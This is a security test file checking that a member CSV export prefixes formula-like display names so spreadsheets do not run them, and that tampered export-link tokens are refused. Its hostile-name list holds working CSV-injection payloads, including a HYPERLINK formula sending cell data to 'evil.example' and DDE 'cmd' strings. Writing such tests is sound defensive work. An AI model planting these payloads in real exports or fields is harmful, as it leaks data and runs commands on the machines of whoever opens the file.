// CSV export with formula-injection input: people sign in with display names (the token's `name`,
// which a user controls in their profile) that a spreadsheet would run as a formula. The exported
// member table must carry each name intact but neutralized — no cell starts with = + - @ tab or CR.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { problemOf } from './support/problems.js';
import { CheckTally, recordRows } from './support/results.js';
import { MEGAN, startSecurityQuorum, type SecurityQuorum } from './support/security-quorum.js';

const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '"=quoted",=next',
];

let sq: SecurityQuorum;
const tally = new CheckTally('CSV export neutralizes formula-injection cells');
const links = new CheckTally('CSV export links: tampered or foreign tokens refused');

/** RFC 4180 rows: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

beforeAll(async () => {
  sq = await startSecurityQuorum();
  // Each hostile name signs in once, as a new person of Contoso, which makes them a member.
  for (const [i, name] of HOSTILE_NAMES.entries()) {
    const token = await sq.quorum.emulator.keys.sign(
      sq.tokens.claimsFor(MEGAN, {
        claims: {
          oid: crypto.randomUUID(),
          name,
          preferred_username: `formula.${i}@contoso.com`,
          wids: undefined,
        },
      }),
    );
    const me = await sq.send('GET', '/api/me', { token });
    expect(me.status).toBe(200);
  }
});

afterAll(async () => {
  const { findings, scanned } = await sq.scan();
  const scan = new CheckTally('no secret in responses or logs (CSV export)');
  const dirty = new Set(findings.map((f) => f.where)).size;
  for (let i = 0; i < scanned; i += 1) scan.count(i >= dirty);
  await recordRows([tally.row(), links.row(), scan.row()]);
  await sq.close();
  expect(findings).toEqual([]);
});

describe('CSV export with formula-injection input', () => {
  it('writes every hostile name intact behind a quote, and no cell a spreadsheet would run', async () => {
    const link = await sq.send('POST', '/api/org/exports/members', {
      token: await sq.tokenOf(MEGAN),
      body: {},
    });
    expect(link.status).toBe(201);
    const url = new URL((link.json as { url: string }).url);
    const csv = await sq.send('GET', `${url.pathname}${url.search}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);

    const rows = parseCsv(csv.text);
    const [header, ...body] = rows;
    const nameColumn = header!.indexOf('display_name');
    const names = body.map((r) => r[nameColumn]);
    for (const name of HOSTILE_NAMES) {
      const held = names.includes(FORMULA_START.test(name) ? `'${name}` : name);
      tally.count(held);
      expect(names).toContain(FORMULA_START.test(name) ? `'${name}` : name);
    }
    const live = rows.flat().filter((cell) => FORMULA_START.test(cell));
    tally.count(live.length === 0);
    expect(live).toEqual([]);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
  });
});

describe('CSV export links', () => {
  it('refuses a tampered, truncated, re-signed or missing token without a byte of the table', async () => {
    const link = await sq.send('POST', '/api/org/exports/members', {
      token: await sq.tokenOf(MEGAN),
      body: {},
    });
    const token = new URL((link.json as { url: string }).url).searchParams.get('token')!;
    const [payload, signature] = token.split('.') as [string, string];
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<
      string,
      unknown
    >;
    const edited = Buffer.from(
      JSON.stringify({ ...claims, expiresAt: Number(claims.expiresAt) + 86_400_000 }),
    ).toString('base64url');
    const cases: [string, string][] = [
      [
        'a payload edited to live a day longer, under the real signature',
        `?token=${edited}.${signature}`,
      ],
      [
        'a flipped signature',
        `?token=${payload}.${signature.slice(0, -2)}${signature.endsWith('AA') ? 'BB' : 'AA'}`,
      ],
      ['a payload alone', `?token=${payload}`],
      ['no token', ''],
      ['two tokens', `?token=${token}&token=${token}`],
    ];
    const wrong = [];
    for (const [kind, query] of cases) {
      const sent = await sq.send('GET', `/exports/members.csv${query}`);
      const code = problemOf(sent)?.code;
      const held =
        sent.status >= 400 &&
        sent.status < 500 &&
        ['ERR_EXPORT_LINK_INVALID', 'ERR_VALIDATION'].includes(code ?? '') &&
        !sent.text.includes('display_name') &&
        !sent.text.includes(MEGAN.upn);
      links.count(held);
      if (!held) wrong.push({ kind, status: sent.status, code });
    }
    expect(wrong).toEqual([]);
  });
});
